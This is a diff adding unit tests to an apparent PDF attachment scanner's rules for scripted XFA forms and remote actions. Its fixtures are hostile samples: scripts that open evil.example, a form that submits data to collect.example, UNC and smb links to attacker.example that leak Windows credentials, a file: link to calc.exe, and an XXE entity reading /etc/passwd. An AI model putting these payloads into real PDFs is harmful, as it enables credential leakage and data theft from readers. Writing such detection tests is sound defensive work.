@@ -165,6 +165,69 @@ describe("PDF_LAUNCH", () => {
   });
 });
 
+describe("PDF_XFA_SCRIPT", () => {
+  const template = (inside: string) =>
+    `<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template xmlns="http://www.xfa.org/schema/xfa-template/3.3/"><subform name="invoice"><field name="total"><value><decimal/></value>${inside}</field></subform></template></xdp:xdp>`;
+  const javascript = '<event activity="initialize"><script contentType="application/x-javascript">app.launchURL("https://evil.example/")</script></event>';
+  const withXfa = (xfa: string, extraObjects: PdfObjectBody[]) => makePdf(undefined, { extraCatalog: `/AcroForm << /Fields [] /XFA ${xfa} >>`, extraObjects });
+
+  it.each([
+    ["one plain stream", withXfa("6 0 R", [{ dict: "<< >>", stream: encoder.encode(template(javascript)) }])],
+    ["a Flate-compressed template packet among name/stream pairs", withXfa("[(preamble) 6 0 R (template) 7 0 R (postamble) 8 0 R]", ["<< /Kind /Preamble >>", { dict: "<< /Filter /FlateDecode >>", stream: flate(template(javascript)) }, "<< >>"])],
+    ["a FormCalc script with a namespace prefix", withXfa("6 0 R", [{ dict: "<< >>", stream: encoder.encode(template('<event activity="click"><x:SCRIPT>xfa.host.gotoURL("https://evil.example/")</x:SCRIPT></event>')) }])],
+  ])("fires on an XFA form with a script in %s", async (_what, bytes) => {
+    const received = await receive(pdf("invoice.pdf", bytes));
+    expect(expectFlagged(received, "invoice.pdf", "PDF_XFA_SCRIPT").reason).toMatch(/XFA form with scripts/);
+  });
+
+  it("makes an XFA packet it cannot decode unreadable: it could hide a script", async () => {
+    const received = await receive(pdf("invoice.pdf", withXfa("6 0 R", [{ dict: "<< /Filter /LZWDecode >>", stream: encoder.encode(template(javascript)) }])));
+    expect(expectFlagged(received, "invoice.pdf", "PDF_UNREADABLE_OBJECTS").reason).toMatch(/its XFA form: a PDF stream is encoded with LZWDecode/);
+  });
+
+  it("does not fire on an XFA form without scripts, nor on the word script in its data", async () => {
+    const datasets = '<xfa:datasets xmlns:xfa="http://www.xfa.org/schema/xfa-data/1.0/"><xfa:data><note>The &lt;script&gt; in our manuscripts</note></xfa:data></xfa:datasets>';
+    const received = await receive(pdf("invoice.pdf", withXfa("[(template) 6 0 R (datasets) 7 0 R]", [{ dict: "<< >>", stream: encoder.encode(template("")) }, { dict: "<< /Filter /FlateDecode >>", stream: flate(datasets) }])));
+    expectPassed(received, "invoice.pdf");
+  });
+});
+
+describe("PDF_REMOTE_ACTION", () => {
+  const link = (action: string) => `<< /Type /Annot /Subtype /Link /Rect [0 0 100 20] /A ${action} >>`;
+  it.each([
+    ["a /GoToR link", link("<< /S /GoToR /F (\\\\\\\\fileserver\\\\invoices\\\\terms.pdf) /D [0 /Fit] >>"), /opens another file/],
+    ["a /GoToE link", link("<< /S /GoToE /T << /R /C /N (terms) >> >>"), /opens a PDF embedded/],
+    ["an /ImportData action", link("<< /S /ImportData /F (data.fdf) >>"), /imports form data from another file \("data.fdf"\)/],
+    ["a /SubmitForm action", link("<< /S /SubmitForm /F << /FS /URL /F (https://collect.example/post) >> >>"), /sends the form's data to an address \("https:\/\/collect.example\/post"\)/],
+    ["a javascript: link", link("<< /S /URI /URI (  JavaScript:app.alert\\(1\\)) >>"), /runs a script/],
+    ["a file: link", link("<< /S /URI /URI (file:///C:/Windows/System32/calc.exe) >>"), /file on the reader's computer/],
+    ["a UNC path", link("<< /S /URI /URI (\\\\\\\\attacker.example\\\\share\\\\x.png) >>"), /network share \("\\\\attacker.example\\share\\x.png"\), which makes Windows send/],
+    ["an smb: address", link("<< /S /URI /URI (smb://attacker.example/share) >>"), /network share/],
+    ["a web address a page opens by itself (/AA)", "<< /Type /Note /AA << /O << /S /URI /URI (https://tracker.example/open) >> >> >>", /opened by itself, without a click/],
+  ])("fires on %s", async (_what, object, why) => {
+    const received = await receive(pdf("invoice.pdf", makePdf(undefined, { extraObjects: [object] })));
+    expect(expectFlagged(received, "invoice.pdf", "PDF_REMOTE_ACTION").reason).toMatch(why);
+  });
+
+  it("does not fire on https:, http: and mailto: links, nor on go-to actions within the document", async () => {
+    const received = await receive(
+      pdf(
+        "invoice.pdf",
+        makePdf(undefined, {
+          extraCatalog: "/OpenAction [3 0 R /Fit]",
+          extraObjects: [
+            link("<< /S /URI /URI (https://pay.supplier.example/invoice/42?amount=121.00) >>"),
+            link("<< /S /URI /URI (http://supplier.example) >>"),
+            link("<< /S /URI /URI (mailto:billing@supplier.example) >>"),
+            "<< /Type /Note /AA << /O << /S /GoTo /D [3 0 R /Fit] >> >> >>",
+          ],
+        }),
+      ),
+    );
+    expectPassed(received, "invoice.pdf");
+  });
+});
+
 describe("PDF_EMBEDDED_FILE", () => {
   const withJavaScript = makePdf(undefined, { extraCatalog: "/OpenAction 6 0 R", extraObjects: ["<< /S /JavaScript /JS (app.alert(1)) >>"] });
   const doctype = encoder.encode('<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>');
